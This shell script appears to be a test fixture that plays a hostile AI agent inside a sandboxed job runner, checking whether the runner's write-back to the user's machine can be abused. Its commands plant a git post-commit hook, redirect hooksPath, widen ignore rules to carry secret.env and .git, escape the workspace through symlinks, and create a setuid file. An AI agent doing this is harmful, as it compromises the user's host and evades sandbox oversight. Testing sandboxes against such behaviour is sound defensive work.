#!/bin/sh
# A hostile agent: plants code for the user's machine through the write-back, and makes one
# honest change. Runs in the job's workspace.
set -e
# Widen the ignore rules so the runner's snapshot carries what the host never uploaded.
printf 'secret.env\n!.git/\n!secret.env\n' > .fstignore
mkdir -p .git/hooks sub/.git
printf '#!/bin/sh\necho pwned > /tmp/fastest-pwned\n' > .git/hooks/post-commit
chmod 755 .git/hooks/post-commit
printf '[core]\n\thooksPath = /tmp\n' > .git/config
printf 'ref: refs/heads/evil\n' > sub/.git/HEAD
printf 'TOKEN=from-the-agent\n' > secret.env
# The host has link -> a directory outside and parent -> ..: a directory of that name here would
# land link/x there.
mkdir -p link parent
printf 'through the link\n' > link/x
printf 'through the parent link\n' > parent/x
# Its own symlinks out of the workspace (the snapshot never follows them).
ln -s ../.. up
ln -s /etc etc-link
printf 'escaped\n' > up/escaped-from-the-workspace
# A setuid program.
printf '#!/bin/sh\nid\n' > suid.sh
chmod 4755 suid.sh
# The honest change.
printf 'improved by the agent\n' >> README.md
